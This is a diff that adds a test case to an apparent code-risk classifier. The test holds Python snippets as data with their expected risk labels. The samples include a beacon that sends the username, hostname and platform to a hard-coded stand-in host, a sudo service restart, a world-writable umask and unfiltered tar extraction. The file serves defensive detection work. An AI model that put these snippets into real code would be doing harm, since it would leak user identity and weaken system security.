@@ -159,5 +159,37 @@ TEST(RubricClasses, CiphersAndWipersInLongerSpellings) {
   for (const auto& c : cases) check(c);
 }
 
+// Data that was lost or mixed up on its way: the words of shlex.split, a
+// umask that opens every later file, shutil's tar unpacking, where a
+// urllib Request goes (a configured endpoint is the user's), and who plus
+// where sent together to an address the code chose (a check-in), against
+// host metrics sent to a configured endpoint.
+TEST(RubricClasses, ValuesAndProvenanceAcrossCalls) {
+  const Case cases[] = {
+      {"shlex.split of a sudo line", RiskLevel::high,
+       "import shlex, subprocess\nsubprocess.run(shlex.split('sudo systemctl restart nginx'))\n", "PRIVILEGE-ESCALATION"},
+      {"shlex.split of a quoted git line", M,
+       "import shlex, subprocess\nsubprocess.run(shlex.split(\"git log --format='%an %s'\"))\n", "RUNS-PROCESS"},
+      {"umask 0", M, "import os\nos.umask(0)\nopen('data.txt', 'w').write('x')\n", "WORLD-WRITABLE"},
+      {"umask 077", L, "import os\nos.umask(0o077)\nopen('data.txt', 'w').write('x')\n"},
+      {"shutil.unpack_archive of a tarball", M, "import shutil\nshutil.unpack_archive('upload.tar.gz', 'out')\n",
+       "TAR-EXTRACT-UNFILTERED"},
+      {"shutil.unpack_archive of a zip", L, "import shutil\nshutil.unpack_archive('data.zip', 'out')\n"},
+      {"host metrics to an endpoint from the environment through a Request", L,
+       "import os, socket, json, urllib.request\nEND = os.environ.get('METRICS_URL', 'https://metrics.example.com/push')\n"
+       "req = urllib.request.Request(END, data=json.dumps({'host': socket.gethostname(), 'load': os.getloadavg()[0]}).encode())\n"
+       "urllib.request.urlopen(req, timeout=5)\n"},
+      {"user and host to an address written into the code", B,
+       "import getpass, socket, platform, urllib.parse, urllib.request\n"
+       "info = {'u': getpass.getuser(), 'h': socket.gethostname(), 'o': platform.platform()}\n"
+       "urllib.request.urlopen('http://beacon.example-analytics.xyz/b?' + urllib.parse.urlencode(info))\n",
+       "IDENTITY-BEACON"},
+      {"user and host to a URL the user gave", RiskLevel::high,
+       "import getpass, socket, sys, requests\nrequests.post(sys.argv[1], json={'u': getpass.getuser(), 'h': socket.gethostname()})\n",
+       "HOST-IDENTITY-SENT"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
